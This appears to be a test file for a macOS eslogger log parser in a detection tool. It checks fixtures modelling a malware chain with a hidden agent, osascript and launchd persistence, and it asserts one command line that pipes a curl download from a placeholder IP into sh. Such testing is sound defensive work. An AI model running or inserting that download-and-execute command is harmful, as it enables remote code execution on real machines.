// eslogger reader: the fixtures written for the macOS chains, the real eslogger output in
// ../shared/data/tmc-misc-eslog, and damaged input.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { eslogger, esloggerDecoder } from '../../../src/ingest/macos/eslogger.ts';
import { sniffFormat } from '../../../src/ingest/source.ts';
import { needsData, REPO_ROOT, sharedData } from '../../support/data.ts';
import { decodeLines, ofKind } from './decode.ts';

const FIX = join(REPO_ROOT, 'test/fixtures/macos');
const read = (f: string) => readFileSync(join(FIX, f), 'utf8');
const AGENT = '/Users/alice/Library/Application Support/.syncd/syncd';

describe('eslogger reader', () => {
  const full = decodeLines(esloggerDecoder, read('full-chain.eslogger.ndjson'), 'full.ndjson');

  test('reads every record of the full-chain fixture without problems', () => {
    assert.deepEqual(full.problems, []);
    assert.equal(full.events.length, 16);
    assert.ok(
      full.events.every((e) => e.platform === 'macos' && e.host === '' && e.src.format === 'eslogger'),
    );
  });

  test('exec: audit-token guid (pid:pidversion), parent token, args, signing facts, record and time', () => {
    const [agent] = ofKind(full.events, 'process');
    assert.deepEqual(agent.proc, {
      guid: '812:1702',
      pid: 812,
      image: AGENT,
      start: Date.parse('2026-11-03T09:00:00.001Z'),
      user: '501',
      commandLine: `${AGENT} --headless --no-dock`,
    });
    assert.deepEqual(agent.parent, { guid: '640:1290', pid: 640 });
    assert.deepEqual(agent.meta, { signingId: 'syncd-55554944a3b1', platformBinary: false });
    assert.equal(agent.integrity, 'user');
    assert.equal(agent.cwd, '/Users/alice');
    assert.equal(agent.time, Date.parse('2026-11-03T09:00:00.001Z'));
    assert.deepEqual(agent.src, {
      file: 'full.ndjson',
      format: 'eslogger',
      line: 1,
      eventId: 'exec',
      record: '1001',
    });
  });

  test('fork keeps the parent image and is marked forkOnly; the exec after it has a new pidversion', () => {
    const procs = ofKind(full.events, 'process');
    const fork = procs.find((p) => p.proc.guid === '820:1710')!;
    assert.equal(fork.forkOnly, true);
    assert.equal(fork.proc.image, AGENT);
    assert.equal(fork.parent?.guid, '812:1702');
    assert.equal(fork.parent?.image, AGENT);
    const osa = procs.find((p) => p.proc.guid === '820:1711')!;
    assert.equal(osa.proc.image, '/usr/bin/osascript');
    assert.equal(osa.forkOnly, undefined);
    assert.equal(osa.parent?.guid, '812:1702', 'the exec names the agent, not the fork, as parent');
    const sh = procs.find((p) => p.proc.image === '/bin/sh' && !p.forkOnly)!;
    assert.equal(sh.commandLine, 'sh -c curl -fsSL http://198.51.100.23/u.sh | sh');
    assert.equal(
      procs.find((p) => p.proc.image === '/bin/launchctl')?.commandLine,
      'launchctl load -w /Users/alice/Library/LaunchAgents/com.syncd.agent.plist',
    );
  });

  test('create (new_path), close of a modified file, exit', () => {
    const files = ofKind(full.events, 'file');
    assert.deepEqual(
      files.map((f) => [f.op, f.path, f.proc?.guid]),
      [
        ['create', '/Users/alice/Library/LaunchAgents/com.syncd.agent.plist', '812:1702'],
        ['write', '/Users/alice/Library/LaunchAgents/com.syncd.agent.plist', '812:1702'],
      ],
    );
    assert.deepEqual(
      ofKind(full.events, 'process_end').map((e) => e.proc.guid),
      ['813:1704', '820:1711', '822:1715', '821:1713'],
    );
  });

  test('btm_launch_item_add: launchd persistence named by the plist, command the executable, actor the instigator', () => {
    const [p] = ofKind(full.events, 'persistence');
    assert.equal(p.mechanism, 'launchd');
    assert.equal(p.name, 'com.syncd.agent');
    assert.equal(p.command, `"${AGENT}"`, 'a path with spaces is quoted as one program');
    assert.equal(p.actor?.guid, '812:1702');
    assert.equal(p.actor?.image, AGENT);
    assert.equal(p.startType, 'agent');
    assert.equal(p.account, '501');
  });

  test('package-installed LaunchDaemon: rename into /Library/LaunchDaemons, daemon BTM item from launchctl', () => {
    const d = decodeLines(esloggerDecoder, read('pkg-launchdaemon.eslogger.ndjson'));
    assert.deepEqual(d.problems, []);
    const rename = ofKind(d.events, 'file').find((f) => f.op === 'rename')!;
    assert.equal(rename.path, '/Library/LaunchDaemons/.com.acme.backupd.plist.tmp');
    assert.equal(rename.target, '/Library/LaunchDaemons/com.acme.backupd.plist');
    const [p] = ofKind(d.events, 'persistence');
    assert.equal(p.name, 'com.acme.backupd');
    assert.equal(p.startType, 'daemon');
    assert.equal(p.account, '0');
    assert.equal(p.actor?.image, '/bin/launchctl');
    const daemon = ofKind(d.events, 'process').find((e) => e.proc.image.endsWith('acme-backupd'))!;
    assert.deepEqual(daemon.parent, { guid: '1:1', pid: 1 });
    assert.deepEqual(daemon.meta, {
      signingId: 'com.acme.backupd',
      teamId: 'ACME123456',
      platformBinary: false,
    });
    assert.equal(daemon.integrity, 'root');
  });

  test('BTM item URLs relative to the app bundle resolve against app_url', () => {
    const line = JSON.stringify({
      time: '2026-11-03T10:00:00Z',
      event_type: 124,
      process: { audit_token: { pid: 355, pidversion: 7 }, executable: { path: '/usr/libexec/smd' } },
      event: {
        btm_launch_item_add: {
          instigator: null,
          instigator_token: { pid: 900, pidversion: 2101 },
          app: null,
          item: {
            item_type: 4,
            legacy: false,
            managed: false,
            uid: 0,
            item_url: 'Contents/Library/LaunchDaemons/com.example.helper.plist',
            app_url: 'file:///Applications/Example%20App.app/',
          },
          executable_path: '/Applications/Example App.app/Contents/MacOS/helper',
        },
      },
    });
    const [p] = ofKind(decodeLines(esloggerDecoder, line).events, 'persistence');
    assert.equal(p.name, 'com.example.helper');
    assert.deepEqual(p.actor, { guid: '900:2101', pid: 900 });
  });

  test('damaged and hostile lines are reported with their line and skipped; good lines still read', () => {
    const good = read('approved-app.eslogger.ndjson').split('\n')[0];
    const text = [
      good.slice(0, 200), // truncated
      '{"event_type":9,"event":{"exec":{}},"time":"2026-11-03T10:00:00Z"}', // exec without target
      '{"event_type":15,"event":{},"time":"x"}', // no event name
      'not json at all',
      '[1,2,3]',
      '{"event_type":9,"event":{"exec":{"target":{"executable":{"path":"/bin/ls"}}}},"time":"not a time"}',
      '{"event_type":9,"event":{"exec":{"target":{"executable":{"path":7}}}},"time":"2026-11-03T10:00:00Z"}',
      good,
      '{"event_type":99,"event":{"mmap":{}},"time":"2026-11-03T10:00:00Z"}', // not used: ignored
    ].join('\n');
    const d = decodeLines(esloggerDecoder, text);
    assert.equal(d.events.length, 1);
    assert.equal(d.ignored, 1);
    assert.deepEqual(
      d.problems.map((p) => p.line),
      [1, 2, 3, 4, 5, 6, 7],
    );
    assert.match(d.problems[1].message, /exec has no target executable path/);
  });

  test('sniffing: eslogger lines are recognised, other JSON is not taken', () => {
    const head = Buffer.from(read('full-chain.eslogger.ndjson').slice(0, 65536));
    assert.equal(sniffFormat(head).format?.id, 'eslogger');
    assert.equal(eslogger.sniff(Buffer.alloc(0), '{"@timestamp":"x","winlog":{"event_id":1}}\n'), 0);
    assert.equal(eslogger.sniff(Buffer.alloc(0), '{"name":"q","hostIdentifier":"h","columns":{}}\n'), 0);
  });
});

const SAMPLE = sharedData('tmc-misc-eslog/eslog/sample.json');
const TEST = sharedData('tmc-misc-eslog/eslog/test.ndjson');

describe('real eslogger output (tmc-misc-eslog)', needsData(SAMPLE, TEST), () => {
  test('sample.json: two bash execs with audit tokens, parent tokens and Apple signing ids', () => {
    const d = decodeLines(esloggerDecoder, readFileSync(SAMPLE!, 'utf8'));
    assert.deepEqual(d.problems, []);
    const procs = ofKind(d.events, 'process');
    assert.deepEqual(
      procs.map((p) => [
        p.proc.guid,
        p.proc.image,
        p.parent?.guid,
        p.meta?.signingId,
        p.meta?.platformBinary,
      ]),
      [
        ['7338:14982', '/bin/bash', '7322:14951', 'com.apple.bash', true],
        ['9546:19114', '/bin/bash', '7322:14951', 'com.apple.bash', true],
      ],
    );
    assert.equal(procs[0].time, Date.parse('2025-05-15T10:41:23.377Z'));
    assert.ok(procs[0].commandLine!.startsWith('/bin/bash -c -l SNAPSHOT_FILE='));
  });

  test('test.ndjson (records without time or pidversion) is read without a crash, each record reported', () => {
    const d = decodeLines(esloggerDecoder, readFileSync(TEST!, 'utf8'));
    assert.equal(d.events.length, 0);
    assert.deepEqual(
      d.problems.map((p) => p.line),
      [1, 2],
    );
    assert.match(d.problems[0].message, /no readable time/);
  });
});
